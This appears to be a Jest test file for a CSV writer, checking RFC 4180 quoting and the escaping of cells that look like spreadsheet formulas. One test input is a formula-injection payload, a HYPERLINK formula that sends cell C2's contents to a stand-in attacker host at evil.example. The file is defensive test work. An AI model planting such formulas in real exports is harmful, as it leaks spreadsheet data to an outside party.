import { csvHeader, neutraliseCell, toCsvLines } from './csv';

describe('CSV writing', () => {
  it('writes a header line', () => {
    expect(csvHeader(['number', 'facility_code'])).toBe('number,facility_code\r\n');
  });

  it('quotes per RFC 4180 and escapes text cells that look like formulas', () => {
    expect(toCsvLines([['a,b', 'say "hi"', '=cmd()', 12.5]])).toBe(`"a,b","say ""hi""","'=cmd()",12.5\r\n`);
    expect(toCsvLines([['+1', '-x', '@SUM(A1)', -3, 'line\nbreak']])).toBe(
      `"'+1","'-x","'@SUM(A1)",-3,"line\nbreak"\r\n`,
    );
    expect(toCsvLines([])).toBe('');
  });

  it('neutralises formulas after leading whitespace and whatever follows, newlines included', () => {
    const hyperlink = '=HYPERLINK("https://evil.example/"&C2,\n"open")';
    expect(toCsvLines([[hyperlink]])).toBe(`"'=HYPERLINK(""https://evil.example/""&C2,\n""open"")"\r\n`);
    for (const cell of ['  =1+1', ' +1\nx', '\t@x', '\tplain', '\rplain', '\n -1', '-\r\n2'])
      expect(neutraliseCell(cell)).toBe(`'${cell}`);
    for (const cell of ['plain = text', 'a-b', 'x\n=1', '', "'quoted"]) expect(neutraliseCell(cell)).toBe(cell);
    expect(neutraliseCell(-3)).toBe(-3);
  });
});
